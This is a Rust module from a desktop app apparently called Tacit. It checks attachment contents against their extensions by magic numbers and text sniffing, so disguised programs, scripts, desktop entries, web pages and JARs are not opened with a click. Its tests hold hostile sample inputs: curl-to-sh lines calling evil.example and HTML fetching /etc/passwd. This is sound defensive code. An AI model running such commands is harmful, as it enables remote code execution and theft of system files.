//! Whether an attachment's bytes are what its name says, before the desktop opens it.
//!
//! `attachment_open` hands a copy to the desktop's handler (`xdg-open`), and only for the types
//! in `OPENED_ON_A_CLICK`, chosen by the file's extension. But some desktops choose the handler
//! by the content (`xdg-open` without a known desktop asks `file --mime-type`; GIO and KDE look
//! at the bytes when the name is not enough), so a member could attach `agenda.pdf` holding a
//! shell script, a web page or a program. So the bytes must agree with the name: a binary type
//! starts with its magic number, and a text type is UTF-8 without NUL that starts like nothing
//! the desktop runs or shows in a browser. A file that does not agree is not opened with a
//! click.

/// How much of a binary file is read to check it: every magic number checked sits in its first
/// bytes (`tar`'s, the farthest, at 257; a ZIP entry's name at 30).
pub const BINARY_READ: usize = 4 * 1024;

/// How much of a text file is read to check it: at least what content sniffers read to tell
/// text from data and one text type from another (`file` looks for HTML in the first 4 KiB;
/// a MiB of UTF-8 is checked in well under a millisecond).
pub const TEXT_READ: usize = 1024 * 1024;

/// Where sniffers look for markup in a text file (`file`'s HTML rules search the first 4 KiB;
/// shared-mime-info's, the first 256 bytes).
const MARKUP_SNIFFED: usize = 4 * 1024;

/// The extensions opened with a click that name text.
const TEXT: [&str; 7] = ["txt", "text", "md", "markdown", "csv", "tsv", "log"];

/// What sniffers take for a web page, SVG or XML when they find it (lowercase) in the first
/// [`MARKUP_SNIFFED`] bytes of a text file: the desktop would open it in a browser.
const MARKUP: [&str; 13] = [
    "<!doctype",
    "<?xml",
    "<html",
    "<head",
    "<body",
    "<title",
    "<script",
    "<style",
    "<iframe",
    "<frameset",
    "<table",
    "<a href",
    "<svg",
];

/// The starts of desktop entries and their kin (shared-mime-info's `application/x-desktop`),
/// which run the program they name.
const DESKTOP_ENTRY: [&[u8]; 5] = [
    b"[Desktop Entry]",
    b"[Desktop Action",
    b"[KDE Desktop Entry]",
    b"# Config File",
    b"# KDE Config File",
];

/// How many bytes of a file named with extension `ext` (lowercase) [`mismatch`] needs.
pub fn read_size(ext: &str) -> usize {
    if TEXT.contains(&ext) {
        TEXT_READ
    } else {
        BINARY_READ
    }
}

/// Why the content of a file named with extension `ext` (lowercase) is not of that type, or
/// `None` when it is. `head` is the file's first [`read_size`] bytes, or all of it when `whole`.
pub fn mismatch(ext: &str, head: &[u8], whole: bool) -> Option<&'static str> {
    if head.starts_with(b"\x7fELF") {
        return Some("it is a program (ELF)");
    }
    if head.trim_ascii_start().starts_with(b"#!") {
        return Some("it starts as a script does (#!)");
    }
    if TEXT.contains(&ext) {
        return text_mismatch(head, whole);
    }
    match magic_agrees(ext, head) {
        None => Some("Tacit has no rule to check this type"),
        Some(false) => Some("it does not start as such a file does"),
        Some(true) if is_jar(head) => Some("it is a Java program (a JAR)"),
        Some(true) => None,
    }
}

fn starts(head: &[u8], at: usize, magic: &[u8]) -> bool {
    head.get(at..at + magic.len()) == Some(magic)
}

/// Whether `head` starts with the magic number of `ext`; `None` for a type with no rule here.
fn magic_agrees(ext: &str, h: &[u8]) -> Option<bool> {
    let s = |at: usize, magic: &[u8]| starts(h, at, magic);
    let riff = |form: &[u8]| s(0, b"RIFF") && s(8, form);
    let iso_media = s(4, b"ftyp");
    // A local file header, or the end of an empty archive.
    let zip = s(0, b"PK\x03\x04") || s(0, b"PK\x05\x06");
    // Compound File Binary: the Office formats before 2007.
    let ole = s(0, b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1");
    let sync = |mask: u8, value: u8| h.len() >= 2 && h[0] == 0xFF && h[1] & mask == value;
    Some(match ext {
        "pdf" => s(0, b"%PDF-"),
        "rtf" => s(0, b"{\\rtf"),
        "epub" | "odt" | "ods" | "odp" | "odg" | "docx" | "xlsx" | "pptx" | "zip" => zip,
        "doc" | "xls" | "ppt" => ole,
        "png" => s(0, b"\x89PNG\r\n\x1a\n"),
        "jpg" | "jpeg" => s(0, b"\xFF\xD8\xFF"),
        "gif" => s(0, b"GIF87a") || s(0, b"GIF89a"),
        "webp" => riff(b"WEBP"),
        "bmp" => s(0, b"BM"),
        "avif" | "heic" | "heif" => iso_media,
        "tif" | "tiff" => s(0, b"II*\0") || s(0, b"MM\0*") || s(0, b"II+\0") || s(0, b"MM\0+"),
        "ico" => s(0, b"\0\0\x01\0"),
        // An ID3 tag, or an MPEG audio frame's sync.
        "mp3" => s(0, b"ID3") || sync(0xE0, 0xE0),
        // ID3, ADIF, or an ADTS frame's sync (layer 0).
        "aac" => s(0, b"ID3") || s(0, b"ADIF") || sync(0xF6, 0xF0),
        "wav" => riff(b"WAVE"),
        "avi" => riff(b"AVI "),
        "ogg" | "oga" | "opus" | "ogv" => s(0, b"OggS"),
        "flac" => s(0, b"fLaC") || s(0, b"ID3"),
        "mp4" | "m4v" | "m4a" => iso_media,
        // QuickTime files may start with any of these atoms.
        "mov" => {
            iso_media
                || [b"moov", b"mdat", b"wide", b"free", b"skip", b"pnot"]
                    .iter()
                    .any(|atom| s(4, *atom))
        }
        // EBML.
        "webm" | "mkv" => s(0, b"\x1A\x45\xDF\xA3"),
        // POSIX and GNU tar (the magic after the first header's name, mode, owner…).
        "tar" => s(257, b"ustar"),
        "gz" | "tgz" => s(0, b"\x1F\x8B"),
        "bz2" => s(0, b"BZh"),
        "xz" => s(0, b"\xFD7zXZ\0"),
        "zst" => s(0, b"\x28\xB5\x2F\xFD"),
        "7z" => s(0, b"7z\xBC\xAF\x27\x1C"),
        _ => return None,
    })
}

/// Whether a ZIP-based file is a Java archive as sniffers tell it (its first entry under
/// `META-INF/`, or that entry's extra field starting with 0xCAFE): some desktops run those
/// with `java -jar`.
fn is_jar(h: &[u8]) -> bool {
    if !starts(h, 0, b"PK\x03\x04") {
        return false;
    }
    let u16_at = |at: usize| {
        h.get(at..at + 2)
            .map(|b| usize::from(u16::from_le_bytes([b[0], b[1]])))
    };
    let (Some(name_len), Some(extra_len)) = (u16_at(26), u16_at(28)) else {
        return false;
    };
    let name = h.get(30..30 + name_len).unwrap_or_default();
    let extra = 30 + name_len;
    name.starts_with(b"META-INF/") || (extra_len >= 2 && starts(h, extra, b"\xFE\xCA"))
}

/// Why `head` is not plain text that the desktop would show as text, or `None`.
fn text_mismatch(head: &[u8], whole: bool) -> Option<&'static str> {
    if head.contains(&0) {
        return Some("it is not text (it holds NUL bytes)");
    }
    match std::str::from_utf8(head) {
        Ok(_) => {}
        // Cut inside a character where the read stopped.
        Err(e) if !whole && e.error_len().is_none() => {}
        Err(_) => return Some("it is not text (it is not UTF-8)"),
    }
    let text = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
    let start = text.trim_ascii_start();
    if DESKTOP_ENTRY.iter().any(|entry| start.starts_with(entry)) {
        return Some("it is a desktop entry, which runs a program");
    }
    if start.starts_with(b"%!") {
        return Some("it is PostScript");
    }
    if start.starts_with(b"<") {
        return Some("it starts as a web page or XML does");
    }
    let sniffed = String::from_utf8_lossy(&text[..text.len().min(MARKUP_SNIFFED)]).to_lowercase();
    if MARKUP.iter().any(|m| sniffed.contains(m)) {
        return Some("it holds HTML or XML, by which the desktop may open it as a web page");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A few bytes past the magic number, as a real file has.
    fn file(magic: &[u8]) -> Vec<u8> {
        let mut bytes = magic.to_vec();
        bytes.extend_from_slice(&[0x42; 64]);
        bytes
    }

    fn agrees(ext: &str, bytes: &[u8]) -> bool {
        mismatch(ext, bytes, true).is_none()
    }

    #[test]
    fn real_files_of_each_type_agree_with_their_names() {
        let mut tar = vec![0u8; 512];
        tar[..8].copy_from_slice(b"notes.md");
        tar[257..263].copy_from_slice(b"ustar\0");
        let mut mp4 = b"\0\0\0\x20ftypisom".to_vec();
        mp4.extend_from_slice(&[0; 32]);
        let riff = |form: &[u8]| {
            let mut b = b"RIFF\x24\0\0\0".to_vec();
            b.extend_from_slice(form);
            b.extend_from_slice(&[0; 16]);
            b
        };
        let (webp, wav, avi) = (riff(b"WEBP"), riff(b"WAVE"), riff(b"AVI "));
        let mut docx =
            b"PK\x03\x04\x14\0\x06\0\x08\0\0\0!\0\0\0\0\0\0\0\0\0\0\0\0\0\x13\0\0\0".to_vec();
        docx.extend_from_slice(b"[Content_Types].xml");
        let cases: Vec<(&str, Vec<u8>)> = vec![
            ("pdf", file(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n")),
            ("rtf", file(b"{\\rtf1\\ansi")),
            ("docx", docx.clone()),
            ("odt", docx.clone()),
            ("epub", docx.clone()),
            (
                "zip",
                b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
            ),
            ("doc", file(b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")),
            ("png", file(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")),
            ("jpg", file(b"\xFF\xD8\xFF\xE0\0\x10JFIF")),
            ("jpeg", file(b"\xFF\xD8\xFF\xE1")),
            ("gif", file(b"GIF89a")),
            ("webp", webp),
            ("bmp", file(b"BM")),
            ("avif", file(b"\0\0\0\x1cftypavif")),
            ("heic", file(b"\0\0\0\x18ftypheic")),
            ("tiff", file(b"II*\0")),
            ("tif", file(b"MM\0*")),
            ("ico", file(b"\0\0\x01\0\x01\0")),
            ("mp3", file(b"ID3\x04\0")),
            ("mp3", file(b"\xFF\xFB\x90\x64")),
            ("aac", file(b"\xFF\xF1\x50\x80")),
            ("wav", wav),
            ("avi", avi),
            ("ogg", file(b"OggS\0\x02")),
            ("opus", file(b"OggS\0\x02")),
            ("flac", file(b"fLaC\0\0\0\x22")),
            ("mp4", mp4.clone()),
            ("m4a", mp4.clone()),
            ("mov", file(b"\0\0\0\x08wide")),
            ("webm", file(b"\x1A\x45\xDF\xA3")),
            ("mkv", file(b"\x1A\x45\xDF\xA3")),
            ("tar", tar),
            ("gz", file(b"\x1F\x8B\x08\0")),
            ("tgz", file(b"\x1F\x8B\x08\0")),
            ("bz2", file(b"BZh91AY&SY")),
            ("xz", file(b"\xFD7zXZ\0")),
            ("zst", file(b"\x28\xB5\x2F\xFD")),
            ("7z", file(b"7z\xBC\xAF\x27\x1C")),
            (
                "txt",
                "Agenda — Q3\n\n1. Budget\n2. Hiring\n".as_bytes().to_vec(),
            ),
            (
                "md",
                "# Notes\n\nSee [the plan](https://example.com) and `a < b`.\n"
                    .as_bytes()
                    .to_vec(),
            ),
            ("md", "\u{FEFF}# With a BOM\n".as_bytes().to_vec()),
            ("csv", b"name,amount\nBo,3\n".to_vec()),
            (
                "log",
                b"2026-03-10 12:00 started\n\x1b[32mok\x1b[0m\n".to_vec(),
            ),
            ("txt", Vec::new()),
        ];
        for (ext, bytes) in cases {
            assert_eq!(mismatch(ext, &bytes, true), None, "{ext}: {bytes:?}");
        }
    }

    #[test]
    fn every_type_opened_on_a_click_has_a_rule() {
        for ext in crate::attachments::OPENED_ON_A_CLICK
            .iter()
            .flat_map(|k| k.iter())
        {
            let refused = mismatch(ext, &file(b"\x01\x02\x03\x04"), true);
            assert_ne!(
                refused,
                Some("Tacit has no rule to check this type"),
                "{ext}"
            );
        }
        assert_eq!(
            mismatch("exe", &file(b"MZ"), true),
            Some("Tacit has no rule to check this type")
        );
    }

    #[test]
    fn a_program_or_script_named_as_a_document_is_refused() {
        let elf = file(b"\x7fELF\x02\x01\x01\0");
        let script = b"#!/bin/sh\ncurl https://evil.example/x | sh\n".to_vec();
        let html = b"<!DOCTYPE html><script>fetch('file:///etc/passwd')</script>".to_vec();
        for ext in [
            "pdf", "png", "docx", "mp4", "zip", "txt", "md", "csv", "log",
        ] {
            assert_eq!(
                mismatch(ext, &elf, true),
                Some("it is a program (ELF)"),
                "{ext}"
            );
            assert_eq!(
                mismatch(ext, &script, true),
                Some("it starts as a script does (#!)"),
                "{ext}"
            );
            assert!(!agrees(ext, &html), "{ext}");
        }
        assert!(!agrees("pdf", b"  \n#!/usr/bin/env python3\n"));
        assert!(!agrees("pdf", &file(b"MZ\x90\0")));
        assert!(!agrees("jpg", &file(b"GIF89a")));
        assert!(!agrees("pdf", b""));
        assert!(!agrees("tar", &file(b"ustar")));
    }

    #[test]
    fn a_jar_named_as_an_archive_or_document_is_refused() {
        // A ZIP local file header: its first entry's name and extra field.
        let entry = |name: &[u8], extra: &[u8]| {
            let mut h = b"PK\x03\x04\x14\0\x08\x08\x08\0".to_vec();
            h.extend_from_slice(&[0; 16]); // time, date, crc, sizes
            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
            h.extend_from_slice(&(extra.len() as u16).to_le_bytes());
            h.extend_from_slice(name);
            h.extend_from_slice(extra);
            h
        };
        let jar = entry(b"META-INF/", b"\xFE\xCA\0\0");
        for ext in ["zip", "docx", "odt", "epub"] {
            assert_eq!(
                mismatch(ext, &jar, true),
                Some("it is a Java program (a JAR)"),
                "{ext}"
            );
        }
        assert!(!agrees("zip", &entry(b"META-INF/MANIFEST.MF", b"")));
        assert!(!agrees("zip", &entry(b"a", b"\xFE\xCA\0\0")));
        assert!(agrees("docx", &entry(b"[Content_Types].xml", b"")));
        assert!(agrees("odt", &entry(b"mimetype", b"")));
    }

    #[test]
    fn text_is_utf8_without_nul_and_nothing_the_desktop_runs_or_browses() {
        assert_eq!(
            mismatch("txt", b"plain\0text", true),
            Some("it is not text (it holds NUL bytes)")
        );
        assert_eq!(
            mismatch("csv", b"caf\xE9,1\n", true),
            Some("it is not text (it is not UTF-8)")
        );
        // A read that stops inside a character is not a mistake; a whole file that ends so is.
        let cut = "é".as_bytes()[..1].to_vec();
        assert_eq!(
            mismatch("txt", &[b"ok ".as_slice(), &cut].concat(), false),
            None
        );
        assert!(mismatch("txt", &[b"ok ".as_slice(), &cut].concat(), true).is_some());
        for desktop in [
            "[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example|sh'\n",
            "\u{FEFF}\n  [Desktop Entry]\nExec=x\n",
            "# Config File\n[Desktop Entry]\n",
        ] {
            assert_eq!(
                mismatch("txt", desktop.as_bytes(), true),
                Some("it is a desktop entry, which runs a program"),
                "{desktop:?}"
            );
        }
        for page in [
            "<html><body>x</body></html>",
            "\n\n<!-- hi -->\n# Notes",
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
            "# Notes\n\nSome text and a <a href=\"x\">link</a>\n",
            "# Notes\n\n<SCRIPT>alert(1)</SCRIPT>\n",
        ] {
            assert!(!agrees("md", page.as_bytes()), "{page:?}");
        }
        // Markup past where sniffers look is only text.
        let late = format!("{}\n<script>x</script>", "a".repeat(MARKUP_SNIFFED));
        assert!(agrees("md", late.as_bytes()));
        assert_eq!(
            mismatch("txt", b"%!PS-Adobe-3.0\n", true),
            Some("it is PostScript")
        );
    }

    #[test]
    fn text_types_read_more_than_binary_ones() {
        assert_eq!(read_size("md"), TEXT_READ);
        assert_eq!(read_size("pdf"), BINARY_READ);
        let mut tar = vec![0u8; BINARY_READ];
        tar[257..262].copy_from_slice(b"ustar");
        assert_eq!(mismatch("tar", &tar, false), None, "tar's magic is read");
    }
}
